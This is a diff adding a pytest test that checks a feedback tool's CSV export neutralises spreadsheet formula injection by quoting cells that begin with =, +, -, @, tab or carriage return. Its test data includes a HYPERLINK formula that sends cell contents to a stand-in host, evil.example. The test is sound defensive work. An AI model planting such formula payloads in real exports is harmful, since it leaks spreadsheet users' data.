@@ -91,3 +91,21 @@ def test_cli_export_errors_say_what_to_do(tmp_path, monkeypatch):
     res = subprocess.run([sys.executable, "-m", "assistant.cli", "feedback", "export", "--format", "xml", "--out",
                           str(tmp_path / "x.xml")], capture_output=True, text=True, env=env, timeout=60)
     assert res.returncode == 2 and "use --format csv or --format jsonl" in res.stderr
+
+
+@pytest.mark.parametrize("payload", ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A2)",
+                                     "\t=1+1", "\r=1+1"])
+def test_csv_export_neutralises_spreadsheet_formulas(tmp_path, payload):
+    """A comment or question starting with = + - @ (or tab/CR) is a live formula in Excel/LibreOffice/Sheets:
+    the CSV cell gets a leading quote; the JSONL export keeps the exact text."""
+    store = FeedbackStore(db_path(tmp_path / "data"))
+    store.add(sample(comment=payload, question=payload + " what?"))
+    export(store.rows(), "csv", tmp_path / "out.csv")
+    with (tmp_path / "out.csv").open(encoding="utf-8", newline="") as f:
+        row = next(csv.DictReader(f))
+    for key in ("comment", "question"):
+        assert row[key].startswith("'"), (key, row[key])
+        assert row[key][1:].strip() == (payload if key == "comment" else payload + " what?").strip()
+    assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values())
+    export(store.rows(), "jsonl", tmp_path / "out.jsonl")
+    assert json.loads((tmp_path / "out.jsonl").read_text(encoding="utf-8"))["question"] == payload + " what?"
